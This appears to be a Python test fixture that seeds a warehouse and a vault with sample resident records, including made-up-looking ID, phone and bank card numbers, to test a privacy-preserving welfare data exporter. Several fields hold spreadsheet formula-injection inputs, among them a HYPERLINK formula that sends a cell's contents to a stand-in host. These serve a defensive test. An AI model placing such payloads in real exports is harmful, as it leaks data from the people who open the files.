"""Hand-made marts, vault and keys for the exporter tests (the marts' contract, not the marts' SQL)."""

from __future__ import annotations

import datetime as dt
from pathlib import Path

import duckdb

from islandbridge.config import Secret, Settings
from islandbridge.privacy.keys import KeyRing, new_keyring_text
from islandbridge.privacy.vault import Vault

AS_OF = dt.datetime(2026, 11, 21, tzinfo=dt.timezone(dt.timedelta(hours=8)))
DAY = "2026-11-21"
RUN_ID = "ib_20261120T160000Z"
PURPOSES = ("person_key", "vault", "dept:grid_centre", "dept:civil_affairs", "dept:street_office")

P1, P2, P3, P4 = (f"pk_{n:032x}" for n in (1, 2, 3, 4))

# person_key, field, system, record_key, value, as the sources hold them. P1's name disagrees between
# records: the registry's newest record (t_jm:100010, in natural order) wins; P1's registry phone is a
# placeholder, so the grid's is shown. P3's registry ID went through Excel: the civil roster's is shown.
IDENTIFIERS = [
    (P1, "name", "resident_registry", "t_jm:99999", "张晓伟"),
    (P1, "name", "resident_registry", "t_jm:100010", "张小伟"),
    (P1, "name", "civil_affairs", "senior:202611:3", "张小卫"),
    (P1, "phone", "resident_registry", "t_jm:100010", "无"),
    (P1, "phone", "grid_platform", "residents:GP000001", "138-0013-8000"),
    (P1, "id_number", "resident_registry", "t_jm:100010", "511403194510310077"),
    (P1, "birth_date", "resident_registry", "t_jm:100010", "19451031"),
    (P1, "birth_date", "civil_affairs", "senior:202611:3", "1945.10"),
    (P1, "bank_card", "civil_affairs", "senior:202611:3", "6217003810012345678"),
    (P2, "name", "grid_platform", "residents:GP000002", "=王五"),
    (P2, "phone", "grid_platform", "residents:GP000002", "+86 139 0013 9000"),
    (P3, "name", "resident_registry", "t_jm:100003", "赵  六"),
    (P3, "phone", "resident_registry", "t_jm:100003", "13700137000"),
    (P3, "id_number", "resident_registry", "t_jm:100003", "5.11403E+17"),
    (P3, "id_number", "civil_affairs", "dibao:202611:33", "511421199105155128"),
    (P4, "name", "civil_affairs", "senior:202611:9", "钱七"),
    (P4, "id_number", "civil_affairs", "senior:202611:9", "'51142119440427524X"),
    (P4, "birth_date", "civil_affairs", "senior:202611:9", "1944.04"),
]
# Every identifier as held and as shown: none may appear in a log, an audit entry or a return value.
SHOWN = [
    "张小伟",
    "13800138000",
    "511403194510310077",
    "1945-10-31",
    "13900139000",
    "赵六",
    "511421199105155128",
    "51142119440427524X",
    "1944-04",
]
VALUES = sorted({row[4] for row in IDENTIFIERS if len(row[4]) > 1} | set(SHOWN))

# The marts' contract (schemas/core/<report>.yml): report columns, plus columns the policies withhold.
MARTS_SQL = """
CREATE SCHEMA IF NOT EXISTS marts;
CREATE SCHEMA IF NOT EXISTS core;
CREATE OR REPLACE TABLE core.identity_map AS
    SELECT * FROM (VALUES ('resident_registry', 't_jm:100010', '{P1}'),
                          ('grid_platform', 'residents:GP000002', '{P2}'),
                          ('resident_registry', 't_jm:100003', '{P3}'),
                          ('civil_affairs', 'senior:202611:9', '{P4}')) t(system, record_key, person_key);
CREATE OR REPLACE TABLE marts.elderly_alerts (person_key VARCHAR, community_code VARCHAR, community VARCHAR,
    estate_name VARCHAR, building VARCHAR, unit VARCHAR, room VARCHAR, address VARCHAR, age INTEGER,
    age_at_least INTEGER, check_reason VARCHAR, last_door_access_at TIMESTAMPTZ, last_water_use_at TIMESTAMPTZ,
    hours_silent DECIMAL(10, 1), door_cards INTEGER, has_water_meter BOOLEAN);
INSERT INTO marts.elderly_alerts VALUES
    ('{P3}', '511403001003', '-观音社区', '锦江苑', '16', '3', '1001', chr(9) || '锦江苑16栋3单元1001室', 77,
     NULL, NULL,
     '2026-11-18 21:30:00.123+00', NULL, 50.5, 1, false),
    ('{P1}', '511403001001', '凤鸣社区', '凤鸣苑', '1', '1', '101', '凤鸣苑1栋1单元101室', 81, NULL, NULL,
     '2026-11-18 00:00:00+00', '2026-11-17 12:00:00+00', 72.0, 1, true),
    ('{P2}', '511403001002', '+长寿社区', NULL, NULL, NULL, NULL, '=HYPERLINK("http://x.example/?q="&A1)', 90,
     NULL, '是否独居不详：户籍未登记其住房',
     NULL, NULL, NULL, 0, true);
CREATE OR REPLACE TABLE marts.no_device_coverage (person_key VARCHAR, community_code VARCHAR,
    community VARCHAR, estate_name VARCHAR, building VARCHAR, unit VARCHAR, room VARCHAR, address VARCHAR, age INTEGER,
    age_at_least INTEGER, check_reason VARCHAR, unregistered_cards_at_home INTEGER);
INSERT INTO marts.no_device_coverage VALUES
    ('{P4}', '511403001003', '观音社区', '南街老院', '19', '2', '403', '@南街老院19栋2单元403室', NULL, 80, NULL, 1);
CREATE OR REPLACE TABLE marts.senior_allowance_gaps (person_key VARCHAR, community_code VARCHAR,
    community VARCHAR, age INTEGER, birth_year INTEGER);
INSERT INTO marts.senior_allowance_gaps VALUES
    ('{P1}', '511403001001', '凤鸣社区', 81, 1945), ('{P4}', '511403001003', '观音社区', 84, 1944);
CREATE OR REPLACE TABLE marts.subsidy_after_exit (programme VARCHAR, roster_file VARCHAR, roster_row INTEGER,
    person_key VARCHAR, community_code VARCHAR, community VARCHAR, exit_status INTEGER, exit_date DATE,
    amount_yuan DECIMAL(12, 2), record_key VARCHAR);
INSERT INTO marts.subsidy_after_exit VALUES
    ('低保', '511403001_202611_低保_更正.xlsx', 33, '{P3}', '511403001001', '凤鸣社区', 2, '2026-09-28',
     -3277.50, 'dibao:202611:33'),
    ('高龄补贴', '511403001_202611_高龄补贴.csv', 88, '{P1}', '511403001001', '凤鸣社区', 3, '2026-10-07',
     100.00, 'senior:202611:88');
CREATE OR REPLACE TABLE marts.unmatched_roster_rows (programme VARCHAR, roster_month DATE,
    roster_file VARCHAR, roster_row INTEGER, person_key VARCHAR, record_key VARCHAR, community_code VARCHAR, community VARCHAR,
    id_kind VARCHAR, reason VARCHAR);
INSERT INTO marts.unmatched_roster_rows VALUES
    ('高龄补贴', '2026-11-01', '511403001_202611_高龄补贴.csv', 7, 'pk_{UNMATCHED}', 'senior:202611:7',
     '511403001001', '凤鸣社区', 'excel_damaged', 'damaged_id_number');
CREATE OR REPLACE TABLE marts.island_coverage (community_code VARCHAR, community VARCHAR,
    persons_known BIGINT, in_registry BIGINT, in_grid BIGINT, in_civil BIGINT, in_iot BIGINT, in_two_or_more BIGINT,
    in_all_four HUGEINT);
INSERT INTO marts.island_coverage VALUES
    ('511403001001', '凤鸣社区', 120, 100, 90, 3, 80, 95, 5),
    ('511403001002', '长寿社区', 4, 4, 5, 0, 1, 4, 0),
    (NULL, NULL, 11, 0, 11, 0, 0, 0, 0);
CREATE OR REPLACE TABLE marts.incidents_by_building (month DATE, community_code VARCHAR, community VARCHAR,
    estate_code VARCHAR, estate_name VARCHAR, building VARCHAR, category VARCHAR, incidents BIGINT,
    households BIGINT);
INSERT INTO marts.incidents_by_building VALUES
    ('2026-10-01', '511403001001', '凤鸣社区', 'XQ001', '凤鸣苑', '1', '@其他', 1, 24),
    ('2026-11-01', '511403001001', '凤鸣社区', 'XQ001', '凤鸣苑', '1', '噪音扰民', 3, 24);
"""


def keyrings() -> dict[str, str]:
    """Fresh keyring text per purpose (never stored; one set per test session)."""
    return {purpose: new_keyring_text(kid="t1") for purpose in PURPOSES}


def make_settings(home: Path, rings: dict[str, str]) -> Settings:
    """Settings for a street whose warehouse, vault, audit log and exports live under ``home``."""
    return Settings(
        street_code="511403001",
        landing_url=(home / "landing").as_uri(),
        warehouse_path=home / "warehouse" / "warehouse.duckdb",
        state_dir=home / "state",
        sources={},
        keys={p: Secret(text, f"env:IB_TEST_{i}") for i, (p, text) in enumerate(rings.items())},
        vault_path=home / "private" / "vault.duckdb",
        audit_path=home / "private" / "audit" / "reid.jsonl",
        exports_dir=home / "exports",
    )


def build_street(settings: Settings) -> None:
    """The hand-made marts in the warehouse and the identifiers in the vault."""
    settings.warehouse_path.parent.mkdir(parents=True, exist_ok=True)
    with duckdb.connect(str(settings.warehouse_path)) as con:
        con.execute(MARTS_SQL.format(P1=P1, P2=P2, P3=P3, P4=P4, UNMATCHED="9" * 32))
        con.execute("CREATE SCHEMA IF NOT EXISTS meta")
        con.execute(
            "CREATE TABLE meta.marts_current AS SELECT ? AS run_id, ?::TIMESTAMPTZ AS as_of", [RUN_ID, AS_OF]
        )
    ring = KeyRing.from_secret(settings.keys["vault"], "vault")
    with Vault.open(settings.vault_path, ring) as vault:
        vault.put_many(IDENTIFIERS)


def read_csv_rows(path: Path) -> list[list[str]]:
    """The CSV's cells as a spreadsheet shows them (``="0571…"`` is the text ``0571…``)."""
    import csv
    import io

    from islandbridge.delivery.files import cell_value

    text = path.read_bytes().decode("utf-8-sig")
    return [[cell_value(c) for c in row] for row in csv.reader(io.StringIO(text, newline=""))]


def shipped_policy(department: str) -> dict:
    """The shipped policy of a department as a mapping, to be altered by a test."""
    import copy
    from importlib import resources

    import yaml

    path = resources.files("islandbridge.schemas") / "policies" / f"{department}.yml"
    return copy.deepcopy(yaml.safe_load(path.read_text(encoding="utf-8")))


def policy_texts(*raws: dict, **named: dict) -> dict[str, bytes]:
    """File name -> YAML bytes, the file named after each mapping's department (or the keyword)."""
    import yaml

    files = {**{raw["department"]: raw for raw in raws}, **named}
    return {
        f"{name}.yml": yaml.safe_dump(raw, allow_unicode=True).encode("utf-8") for name, raw in files.items()
    }
